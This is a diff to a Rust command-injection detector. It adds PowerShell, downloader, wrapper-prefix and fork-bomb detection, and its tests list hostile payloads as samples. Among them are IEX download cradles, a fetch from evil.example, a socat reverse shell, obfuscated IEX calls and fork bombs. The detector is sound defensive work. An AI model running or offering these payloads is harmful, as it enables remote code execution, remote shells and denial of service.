@@ -219,6 +219,11 @@ const STRONG: &[&[u8]] = &[
     b"msbuild",
     b"cmstp",
     b"odbcconf",
+    // Wrappers that only change how the next command runs.
+    b"stdbuf",
+    b"rlwrap",
+    b"unbuffer",
+    b"ionice",
 ];
 
 /// Tool families whose commands are `<family>-<verb>` (`ansible-vault`, `chef-run`,
@@ -345,6 +350,11 @@ const WEAK: &[&[u8]] = &[
     b"ftp",
     b"expect",
     b"seq",
+    b"script",
+    b"calc",
+    b"notepad",
+    b"mspaint",
+    b"explorer",
 ];
 
 fn command_class(word: &[u8]) -> Option<bool> {
@@ -409,6 +419,7 @@ const CMDLET_VERBS: &[&[u8]] = &[
     b"select",
     b"expand",
     b"compress",
+    b"resolve",
 ];
 const CMDLET_NOUNS: &[&[u8]] = &[
     b"childitem",
@@ -456,6 +467,9 @@ const CMDLET_NOUNS: &[&[u8]] = &[
     b"string",
     b"json",
     b"securestring",
+    b"connection",
+    b"dnsname",
+    b"type",
 ];
 
 /// Whether `word` is a PowerShell cmdlet name: a [`CMDLET_VERBS`] verb, a dash, a
@@ -513,14 +527,18 @@ struct Word {
     /// Something only a shell removes splits the word inside (`w'h'o`, `wh\oami`, `c$_at`,
     /// `ping$()`): no prose spells a word so.
     split: bool,
+    /// A `(` opened a subshell before the word (`;(id)`).
+    group: bool,
 }
 
 fn read_word(b: &[u8], mut i: usize) -> Word {
     let mut evasion = false;
+    let mut group = false;
     // Leading noise a shell ignores before a command (bounded: each separator reads one word).
     let noise_end = b.len().min(i + 64);
     loop {
         while i < noise_end && (b[i].is_ascii_whitespace() || matches!(b[i], b'{' | b'(' | b'!')) {
+            group |= b[i] == b'(';
             i += 1;
         }
         if let Some(n) = ifs_at(b, i) {
@@ -561,8 +579,13 @@ fn read_word(b: &[u8], mut i: usize) -> Word {
         {
             break;
         }
+        // A Windows path keeps its separators (`%windir%\system32\whoami.exe`, `c:\x\cmd`).
+        let windows_path = c == b'\\'
+            && len > 1
+            && (text[0] == b'%' || text[1] == b':')
+            && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric);
         match c {
-            b'\'' | b'"' | b'\\' | b'^' => {
+            b'\'' | b'"' | b'\\' | b'^' if !windows_path => {
                 evasion |= len > 0 || c == b'\\';
                 let inside = len > 0 && b.get(i + 1).is_some_and(u8::is_ascii_alphanumeric);
                 if matches!(c, b'\\' | b'^') {
@@ -615,6 +638,7 @@ fn read_word(b: &[u8], mut i: usize) -> Word {
         len,
         evasion,
         split: split || (inner_quote && quotes >= 2),
+        group,
     }
 }
 
@@ -647,6 +671,8 @@ fn argument_follows(b: &[u8], i: usize, substitution: bool) -> bool {
     }
     match b.get(j) {
         None => j == i || substitution || i == b.len(),
+        // `npm >= 9`: a comparison, not a redirection.
+        Some(b'<' | b'>') if b.get(j + 1) == Some(&b'=') => false,
         Some(c) => {
             subcommand_option(b, i, j)
                 || starts_argument(*c)
@@ -657,9 +683,32 @@ fn argument_follows(b: &[u8], i: usize, substitution: bool) -> bool {
                 || (*c == b'(' && j > 0 && b[j - 1] == b'$')
                 // `;id #`: a comment ending the injected command and the value.
                 || (*c == b'#' && b[j + 1..].trim_ascii().is_empty())
+                || executable(b, j)
                 || redirects(b, j)
         }
     }
+}
+
+/// A program's file name starts at `j` (`start calc.exe`, `call x.bat`).
+fn executable(b: &[u8], j: usize) -> bool {
+    let end = j + b[j..b.len().min(j + 64)]
+        .iter()
+        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, b'.' | b'_' | b'-' | b'\\' | b':'))
+        .count();
+    let word = &b[j..end];
+    [
+        &b".exe"[..],
+        b".bat",
+        b".cmd",
+        b".ps1",
+        b".vbs",
+        b".hta",
+        b".dll",
+        b".scr",
+        b".msi",
+    ]
+    .iter()
+    .any(|x| word.len() > x.len() && word.ends_with(x))
 }
 
 /// The command's words up to the next separator (64 bytes at most) redirect its output to a
@@ -690,7 +739,10 @@ fn subcommand_option(b: &[u8], i: usize, j: usize) -> bool {
     if j == i || !b[j].is_ascii_lowercase() {
         return false;
     }
-    let w = j + b[j..].iter().take_while(|c| c.is_ascii_lowercase()).count();
+    let w = j + b[j..]
+        .iter()
+        .take_while(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || **c == b'_')
+        .count();
     let o = w + 1;
     let dashes = b[o.min(b.len())..]
         .iter()
@@ -743,6 +795,7 @@ pub(crate) fn needs() -> Needs {
     .or_words(RECON)
     .or_words(&["net "])
     .or_words(&[" -", "alias "])
+    .or_keywords(DOWNLOADERS)
     .always_from(2)
 }
 
@@ -788,6 +841,14 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
             return Some(h);
         }
     }
+    if let Some(h) = powershell(s) {
+        return Some(h);
+    }
+    if s.has(class::PAREN) && s.has(class::BRACE) {
+        if let Some(h) = fork_bomb(b) {
+            return Some(h);
+        }
+    }
     if s.has(class::SPACE) {
         if let Some(h) = batch(b)
             .or_else(|| interpreter(b))
@@ -817,6 +878,235 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
     if s.paranoia >= 2 || s.has(SEPARATORS | class::BACKSLASH) {
         if let Some(h) = chains(b, s.paranoia) {
             return Some(h);
+        }
+    }
+    None
+}
+
+/// Needles of the PowerShell syntax [`powershell`] reads: a static member, an object built.
+pub(crate) const POWERSHELL: &[&str] = &["]::", "new-object"];
+
+/// .NET namespaces and types a PowerShell static call reaches to run, load, fetch or decode:
+/// `[System.Diagnostics.Process]::Start(`, `[Convert]::FromBase64String(`.
+const DOTNET_TYPES: &[&[u8]] = &[
+    b"system",
+    b"diagnostics",
+    b"reflection",
+    b"convert",
+    b"scriptblock",
+    b"activator",
+    b"appdomain",
+    b"environment",
+    b"runtime",
+    b"io",
+    b"net",
+    b"text",
+    b"microsoft",
+    b"management",
+    b"type",
+];
+
+/// PowerShell syntax no other text writes: a static call on a .NET type (`[Convert]::X(`), an
+/// object built from a .NET or COM type (`New-Object Net.WebClient`), a command name split by
+/// backtick escapes (``I`E`X``), the call operator on a string expression (`&('i'+'ex')`,
+/// `.("{1}{0}" -f 'ex','i')`).
+fn powershell(s: &Subject<'_>) -> Option<Hit> {
+    let b = s.bytes();
+    if s.gate(gate::POWERSHELL) {
+        if let Some(h) = dotnet(b) {
+            return Some(h);
+        }
+    }
+    if s.has(class::BACKTICK) {
+        if let Some(h) = backtick_escaped(b) {
+            return Some(h);
+        }
+    }
+    if s.has(class::AMP | class::DOT) && s.has(class::PAREN) && s.has(class::QUOTE) {
+        return call_operator(b);
+    }
+    None
+}
+
+/// `[System.Diagnostics.Process]::Start(`, `New-Object Net.WebClient`.
+fn dotnet(b: &[u8]) -> Option<Hit> {
+    for p in memchr::memmem::find_iter(b, b"]::") {
+        let from = p.saturating_sub(64);
+        let Some(open) = memchr::memrchr(b'[', &b[from..p]).map(|o| from + o) else {
+            continue;
+        };
+        let ty = &b[open + 1..p];
+        let known = !ty.is_empty()
+            && ty.iter().all(|c| c.is_ascii_alphanumeric() || *c == b'.')
+            && ty
+                .split(|c| *c == b'.')
+                .any(|seg| DOTNET_TYPES.contains(&seg));
+        let name = b[p + 3..].iter().take_while(|c| is_word(**c)).count();
+        if known && name > 0 && b.get(skip_space(b, p + 3 + name)) == Some(&b'(') {
+            return Some(Hit::new("cmdi.command_chain", open, p + 3 + name));
+        }
+    }
+    for p in memchr::memmem::find_iter(b, b"new-object") {
+        let mut j = skip_space(b, p + 10);
+        for flag in [&b"-typename"[..], b"-comobject"] {
+            if b[j..].starts_with(flag) {
+                j = skip_space(b, j + flag.len());
+            }
+        }
+        let ty = b[j..]
+            .iter()
+            .take_while(|c| is_word(**c) || **c == b'.')
+            .count();
+        if j > p + 10 && ty > 2 && b[j..j + ty].contains(&b'.') {
+            return Some(Hit::new("cmdi.command_chain", p, j + ty));
+        }
+    }
+    None
+}
+
+/// A command name split by PowerShell's backtick escapes: ``I`E`X``, ``Inv`oke-Ex`pression``.
+fn backtick_escaped(b: &[u8]) -> Option<Hit> {
+    for p in memchr::memchr_iter(b'`', b) {
+        if !(p > 0
+            && b[p - 1].is_ascii_alphabetic()
+            && b.get(p + 1).is_some_and(u8::is_ascii_alphabetic))
+        {
+            continue;
+        }
+        let token = |c: &u8| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'`');
+        let from = p.saturating_sub(32);
+        let start = b[from..p]
+            .iter()
+            .rposition(|c| !token(c))
+            .map_or(from, |x| from + x + 1);
+        let end = p + b[p..b.len().min(p + 32)]
+            .iter()
+            .take_while(|c| token(c))
+            .count();
+        let mut word = [0u8; 32];
+        let mut n = 0;
+        for c in b[start..end].iter().filter(|c| **c != b'`') {
+            word[n.min(31)] = *c;
+            n += 1;
+        }
+        if n <= 32 && command_class(&word[..n]) == Some(true) {
+            return Some(Hit::new("cmdi.shell_evasion", start, end));
+        }
+    }
+    None
+}
+
+/// PowerShell's call operator on a string expression: `&('i'+'ex')`, `.("{1}{0}" -f 'ex','i')`.
+fn call_operator(b: &[u8]) -> Option<Hit> {
+    for open in memchr::memchr_iter(b'(', b) {
+        let Some(p) = b[..open].trim_ascii_end().len().checked_sub(1) else {
+            continue;
+        };
+        let boundary = p == 0 || matches!(b[p - 1], b' ' | b'\t' | b';' | b'|' | b'(' | b'{');
+        if !matches!(b[p], b'&' | b'.') || !boundary || open - p > 8 {
+            continue;
+        }
+        if let Some((value, end, _)) = string_value(b, skip_space(b, open + 1)) {
+            if command_class(value.trim_ascii()) == Some(true) {
+                return Some(Hit::new("cmdi.shell_evasion", p, end));
+            }
+        }
+    }
+    None
+}
+
+/// A string expression at `i`: quoted literals joined by `+` or `.`, or a PowerShell format
+/// (`"{1}{0}" -f 'ex','i'`); its value (32 bytes at most), where it ends and how many
+/// literals made it.
+pub(crate) fn string_value(b: &[u8], i: usize) -> Option<(Vec<u8>, usize, usize)> {
+    let literal = |at: usize| -> Option<(&[u8], usize)> {
+        let q = *b.get(at).filter(|c| matches!(c, b'\'' | b'"'))?;
+        let len = memchr::memchr(q, &b[at + 1..b.len().min(at + 34)])?;
+        Some((&b[at + 1..at + 1 + len], at + len + 2))
+    };
+    let (first, mut end) = literal(i)?;
+    let mut value = first.to_vec();
+    let f = skip_space(b, end);
+    if b[f..].starts_with(b"-f ") {
+        let mut args: Vec<&[u8]> = Vec::new();
+        let mut j = skip_space(b, f + 3);
+        while let Some((arg, e)) = literal(j) {
+            args.push(arg);
+            end = e;
+            j = skip_space(b, e);
+            if b.get(j) != Some(&b',') || args.len() == 8 {
+                break;
+            }
+            j = skip_space(b, j + 1);
+        }
+        let mut out = Vec::new();
+        let mut k = 0;
+        while k < first.len() {
+            let slot = first[k..].strip_prefix(b"{").and_then(|r| {
+                let d = r.first().filter(|c| c.is_ascii_digit())?;
+                (r.get(1) == Some(&b'}')).then(|| usize::from(d - b'0'))
+            });
+            match slot {
+                Some(n) => {
+                    out.extend_from_slice(args.get(n)?);
+                    k += 3;
+                }
+                None => {
+                    out.push(first[k]);
+                    k += 1;
+                }
+            }
+        }
+        return (out.len() <= 32).then_some((out, end, args.len() + 1));
+    }
+    let mut pieces = 1;
+    for _ in 0..8 {
+        let j = skip_space(b, end);
+        if !matches!(b.get(j), Some(b'+' | b'.')) {
+            break;
+        }
+        let Some((next, e)) = literal(skip_space(b, j + 1)) else {
+            break;
+        };
+        value.extend_from_slice(next);
+        end = e;
+        pieces += 1;
+    }
+    (value.len() <= 32).then_some((value, end, pieces))
+}
+
+/// A shell function that calls itself through a pipe in the background, then is called: a
+/// fork bomb (`:(){ :|:& };:`, `f(){ f|f& };f`).
+fn fork_bomb(b: &[u8]) -> Option<Hit> {
+    for p in memchr::memchr_iter(b'(', b) {
+        if b.get(p + 1) != Some(&b')') {
+            continue;
+        }
+        let open = skip_space(b, p + 2);
+        if b.get(open) != Some(&b'{') {
+            continue;
+        }
+        let from = p.saturating_sub(32);
+        let start = b[from..p]
+            .iter()
+            .rposition(|c| !(is_word(*c) || *c == b':'))
+            .map_or(from, |x| from + x + 1);
+        let name = &b[start..p];
+        let Some(close) = memchr::memchr(b'}', &b[open..b.len().min(open + 64)]) else {
+            continue;
+        };
+        let body = &b[open + 1..open + close];
+        let piped = !name.is_empty()
+            && body.contains(&b'&')
+            && find_iter(body, name).any(|q| {
+                let mut k = q + name.len();
+                if body[k..].starts_with(b"()") {
+                    k += 2;
+                }
+                body.get(skip_space(body, k)) == Some(&b'|')
+            });
+        if piped {
+            return Some(Hit::new("cmdi.command_chain", start, open + close + 1));
         }
     }
     None
@@ -1073,7 +1363,14 @@ fn interpreter(b: &[u8]) -> Option<Hit> {
     let runs = RUNS_ARGUMENT
         .iter()
         .any(|(c, flags)| *c == cmd && flags.contains(&arg));
-    let cmdlet = cmd.contains(&b'-') && command_class(cmd) == Some(true);
+    // `Stop-Service spooler`, `Get-Content C:\x`: not `New-Object is a cmdlet I forget`.
+    let short = b
+        .split(u8::is_ascii_whitespace)
+        .filter(|w| !w.is_empty())
+        .count()
+        <= 3;
+    let prose = cmdlet(cmd) && !short && arg.iter().all(u8::is_ascii_alphabetic);
+    let cmdlet = cmd.contains(&b'-') && !prose && command_class(cmd) == Some(true);
     (runs || cmdlet).then(|| Hit::new("cmdi.command_chain", 0, b.len().min(64)))
 }
 
@@ -1270,8 +1567,17 @@ fn command_line(b: &[u8]) -> Option<Hit> {
     let rest = words.clone();
     // Only a command with no ordinary-language meaning (looked up last, the option is
     // cheaper to rule out): a value opening with `sort -by` or `make -j` may be a phrase.
-    let hit = (option(second) || (subcommand && words.next().is_some_and(option)))
-        && command_class(first) == Some(true);
+    // `iwr http://…`, `socat tcp:10.0.0.1:4444 exec:sh`: a transfer tool given an address.
+    let fetch = DOWNLOADERS.contains(&first) && {
+        let scheme = second
+            .iter()
+            .take_while(|c| c.is_ascii_alphanumeric() || **c == b'-');
+        let n = scheme.count();
+        n >= 3 && second.get(n) == Some(&b':') && second.len() > n + 1
+    };
+    let hit = fetch
+        || (option(second) || (subcommand && words.next().is_some_and(option)))
+            && command_class(first) == Some(true);
     // A word command is a command line when the whole value is one: a short flag cluster
     // (`ls -la`, `ping -c 3 10.0.0.1`) or a drive (`dir c:\`), then only arguments.
     let whole = b.len() <= start + 128 && {
@@ -1290,6 +1596,18 @@ fn command_line(b: &[u8]) -> Option<Hit> {
     };
     (hit || whole).then(|| Hit::new("cmdi.command_chain", start, end))
 }
+
+/// Transfer tools whose first argument is an address (`curl http://…`, `socat tcp:…`).
+const DOWNLOADERS: &[&[u8]] = &[
+    b"curl",
+    b"wget",
+    b"iwr",
+    b"irm",
+    b"socat",
+    b"ncat",
+    b"invoke-webrequest",
+    b"invoke-restmethod",
+];
 
 /// A word that can only be a command's argument: a path, an option, a number or address, a
 /// file name, a variable.
@@ -1441,6 +1759,8 @@ fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
             return Some(h);
         }
     }
+    // The end of the line last read for a table row, and whether it was one.
+    let mut table = (0, false);
     while i < b.len() {
         let c = b[i];
         let (after, substitution) = match c {
@@ -1455,7 +1775,19 @@ fn chains(b: &[u8], paranoia: u8) -> Option<Hit> {
             {
                 (i + 2, false)
             }
-            b'|' | b'&' => (i + if b.get(i + 1) == Some(&c) { 2 } else { 1 }, false),
+            b'|' | b'&' => {
+                // `| Name | Type |`: a Markdown table row's cells (each line read once).
+                if c == b'|' {
+                    if i >= table.0 {
+                        table = table_row(b, i);
+                    }
+                    if table.1 {
+                        i += 1;
+                        continue;
+                    }
+                }
+                (i + if b.get(i + 1) == Some(&c) { 2 } else { 1 }, false)
+            }
             // ``x`` (reStructuredText, Markdown) is an empty substitution, then a word.
             b'`' if b.get(i + 1) == Some(&b'`') => {
                 i += 2;
@@ -1543,10 +1875,29 @@ fn inline_code(b: &[u8], open: usize, word_end: usize) -> bool {
         c.is_ascii_whitespace()
             || matches!(
                 c,
-                b'.' | b',' | b':' | b';' | b')' | b']' | b'*' | b'\'' | b'"' | b's'
+                b'.' | b',' | b':' | b';' | b')' | b']' | b'*' | b'\'' | b'"' | b's' | b'?' | b'!'
             )
     });
     before && b.get(word_end) == Some(&b'`') && after
+}
+
+/// The end of the line holding the pipe at `i`, and whether it is a Markdown table row: a line
+/// opening and closing with `|`, three pipes or more, cells spaced from them.
+fn table_row(b: &[u8], i: usize) -> (usize, bool) {
+    let from = b[..i]
+        .iter()
+        .rposition(|c| matches!(c, b'\n' | b'\r'))
+        .map_or(0, |p| p + 1);
+    let to = b[i..]
+        .iter()
+        .position(|c| matches!(c, b'\n' | b'\r'))
+        .map_or(b.len(), |p| i + p);
+    let line = b[from..to].trim_ascii();
+    let row = line.len() > 4
+        && line.starts_with(b"| ")
+        && line.ends_with(b" |")
+        && line.iter().filter(|c| **c == b'|').count() >= 3;
+    (to.max(i + 1), row)
 }
 
 /// Words of two letters or more.
@@ -1595,13 +1946,137 @@ fn starts_argument(c: u8) -> bool {
     )
 }
 
+/// Words that run the command after them, after a separator: [`WRAPPERS`], tools that only
+/// adjust how a command runs, and the shell keywords that open a command list.
+const PREFIXES: &[&[u8]] = &[
+    b"stdbuf",
+    b"setsid",
+    b"rlwrap",
+    b"unbuffer",
+    b"ionice",
+    b"chrt",
+    b"then",
+    b"do",
+    b"else",
+];
+
+/// Word commands whose argument may be a bare number.
+const NUMERIC: &[&[u8]] = &[
+    b"sleep",
+    b"ping",
+    b"kill",
+    b"seq",
+    b"timeout",
+    b"wait",
+    b"exit",
+    b"head",
+    b"tail",
+    b"top",
+    b"time",
+    b"w",
+    b"ps",
+    b"id",
+    b"shutdown",
+];
+
+/// After spaces from `i`: a number with no dot in it (`4`, not `1.txt` or `10.0.0.1`).
+fn bare_number(b: &[u8], i: usize) -> bool {
+    let j = i + b[i.min(b.len())..]
+        .iter()
+        .take_while(|c| matches!(c, b' ' | b'\t'))
+        .count();
+    let n = b[j.min(b.len())..]
+        .iter()
+        .take_while(|c| c.is_ascii_digit())
+        .count();
+    n > 0 && b.get(j + n) != Some(&b'.')
+}
+
+/// English words among the prefixes: `nice touch` may close a sentence.
+const PROSE_PREFIXES: &[&[u8]] = &[
+    b"time", b"nice", b"command", b"watch", b"then", b"do", b"else", b"exec", b"eval",
+];
+
+/// A separator at `sep` with nothing before it on its line but one token no prose writes: an
+/// injection closing a number, an address or a quoted string (`127.0.0.1;`, `x';`, `;` first).
+fn bare_separator(b: &[u8], sep: usize) -> bool {
+    if !matches!(b.get(sep), Some(b';' | b'|' | b'&')) {
+        return false;
+    }
+    // Looked for within 66 bytes: a longer line is not one token.
+    let from = sep.saturating_sub(66);
+    let line = match b[from..sep]
+        .iter()
+        .rposition(|c| matches!(c, b'\n' | b'\r'))
+    {
+        Some(p) => from + p + 1,
+        None if from > 0 => return false,
+        None => 0,
+    };
+    let before = b[line..sep].trim_ascii();
+    // One token: empty, closing a quoted string (`x'`), or digits and punctuation.
+    !before.contains(&b' ')
+        && (before
+            .last()
+            .is_some_and(|c| matches!(c, b'\'' | b'"' | b'`'))
+            || before.iter().all(|c| {
+                c.is_ascii_digit() || matches!(c, b'.' | b':' | b',' | b'/' | b'_' | b'-')
+            }))
+}
+
+/// After a prefix word ending at `i`: its options and numbers (`nice -n 10`, `stdbuf -o0`,
+/// `command -v`) skipped, where the command it runs starts.
+fn past_options(b: &[u8], mut i: usize) -> usize {
+    for _ in 0..3 {
+        let j = skip_space(b, i);
+        if j == i || !b.get(j).is_some_and(|c| *c == b'-' || c.is_ascii_digit()) {
+            break;
+        }
+        i = j + b[j..]
+            .iter()
+            .take_while(|c| !c.is_ascii_whitespace())
+            .count();
+    }
+    i
+}
+
 fn command_at(b: &[u8], sep: usize, at: usize, substitution: bool, start: bool) -> Option<Hit> {
+    command_after(b, sep, at, substitution, start, 0)
+}
+
+fn command_after(
+    b: &[u8],
+    sep: usize,
+    at: usize,
+    substitution: bool,
+    start: bool,
+    depth: u8,
+) -> Option<Hit> {
     let w = read_word(b, at);
     if w.len == 0 {
         return None;
     }
     let word = &w.text[..w.len];
     let hit = |rule| Some(Hit::new(rule, sep, w.end.max(sep + 1)));
+    // `;time id`, `;nohup nc …`, `;then id;`: the prefix runs the word after it.
+    if !start && depth < 3 && (WRAPPERS.contains(&word) || PREFIXES.contains(&word)) {
+        let next = past_options(b, w.end);
+        let inner = read_word(b, next);
+        let weak = command_class(&inner.text[..inner.len]) == Some(false);
+        // `Great work; nice touch`: a word command ending the value after an English prefix
+        // runs only where no sentence comes before.
+        let ends = b[inner.end.min(b.len())..].trim_ascii().is_empty();
+        let prose = PROSE_PREFIXES.contains(&word) && weak && ends && !bare_separator(b, sep);
+        if inner.len > 0 && !prose {
+            if let Some(h) = command_after(b, sep, next, substitution, false, depth + 1) {
+                return Some(h);
+            }
+        }
+    }
+    // `; $env:USERNAME`: PowerShell reads the function's environment.
+    if !start && word.starts_with(b"$env:") && word.len() > 5 {
+        return hit("cmdi.command_chain");
+    }
     // Glob in a path: `/???/c?t`, `/bin/ca*`.
     if word.starts_with(b"/") && word.iter().any(|c| matches!(c, b'?' | b'*')) && word.len() > 3 {
         return hit("cmdi.shell_evasion");
@@ -1636,7 +2111,9 @@ fn command_at(b: &[u8], sep: usize, at: usize, substitution: bool, start: bool) 
         return (class && args && w.end < b.len())
             .then(|| Hit::new("cmdi.command_chain", 0, w.end));
     }
-    let closed = substitution && matches!(b.get(w.end), Some(b'`' | b')'))
+    // `;(id)`: a subshell closing after the command.
+    let closed = (w.group && b.get(skip_space(b, w.end)) == Some(&b')'))
+        || substitution && matches!(b.get(w.end), Some(b'`' | b')'))
         // `$(cat file)`, `<(ls x)`: a known command inside a substitution that closes
         // before any other separator (backticks excepted: Markdown quotes code with them).
         || (substitution
@@ -1649,7 +2126,24 @@ fn command_at(b: &[u8], sep: usize, at: usize, substitution: bool, start: bool) 
     if w.evasion && (class || args) {
         return hit("cmdi.shell_evasion");
     }
-    if class || args || closed {
+    // `; Apt 4`: a number is the argument only of commands that count or address (`sleep 5`,
+    // `ping 10.0.0.1`, `kill 9`) or a file name (`cat 1.txt`).
+    let args = args && (class || !bare_number(b, w.end) || NUMERIC.contains(&word));
+    // `;ps aux`, `127.0.0.1|ip a`: after a bare separator a word command with one word after
+    // it, then nothing or another command (`1; exec will create the case` goes on as prose).
+    let bare =
+        !class && !substitution && b.get(w.end) == Some(&b' ') && bare_separator(b, sep) && {
+            let n = skip_space(b, w.end);
+            let len = b[n..]
+                .iter()
+                .take_while(|c| c.is_ascii_alphanumeric())
+                .count();
+            let e = skip_space(b, n + len);
+            (1..=12).contains(&len)
+                && b.get(e)
+                    .is_none_or(|c| matches!(c, b';' | b'|' | b'&' | b'\n' | b'\r'))
+        };
+    if class || args || closed || bare {
         return hit(if substitution {
             "cmdi.substitution"
         } else {
@@ -1896,6 +2390,32 @@ mod tests {
             "x;Get-ChildItem C:\\",
             "a | Out-File C:\\x.txt",
             "& Invoke-WmiMethod -Class Win32_Process",
+            // Prefixes that run the next word; subshells; word commands after a bare separator.
+            ";time id",
+            ";nice -n 5 cat /etc/x",
+            ";if true;then id;fi",
+            ";command -v id",
+            ";(id)",
+            ";ps aux",
+            "127.0.0.1|ip a",
+            "x';ps aux",
+            // Windows paths kept whole, program files as arguments.
+            "& %windir%\\system32\\whoami.exe",
+            "& start calc.exe",
+            // PowerShell syntax: static calls, objects, backtick escapes, the call operator.
+            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
+            "[System.Diagnostics.Process]::Start('calc')",
+            "; [Convert]::FromBase64String('aWQ=')",
+            "I`E`X (whoami)",
+            "; &('i'+'ex') 'whoami'",
+            "; & (\"{1}{0}\" -f 'ex','i') whoami",
+            "; $env:USERNAME",
+            "iwr http://evil.example/x.ps1",
+            "socat tcp-connect:10.0.0.1:4444 exec:sh",
+            ";openssl s_client -connect 10.0.0.1:443",
+            // Fork bombs.
+            ":(){ :|:& };:",
+            "f(){ f|f& };f",
         ] {
             assert!(rule(a).is_some(), "missed {a}");
         }
@@ -1979,6 +2499,18 @@ mod tests {
             "tail -n 5 lines",
             "whoami is a command",
             "net income",
+            // English prefixes, tables, paths and PowerShell words in prose.
+            "Great work; nice touch",
+            "R&D; cut costs",
+            "Q&A; find out more",
+            "| Name | Type | Date |\n| --- | --- | --- |",
+            "| id | name |",
+            "New-Object is a PowerShell cmdlet",
+            "the array[0]::x notation",
+            "don`t do that",
+            "Python https://python.org",
+            "a (b) {c} d",
+            "use ls; then ask",
         ] {
             assert_eq!(rule(b), None, "false positive on {b}");
         }
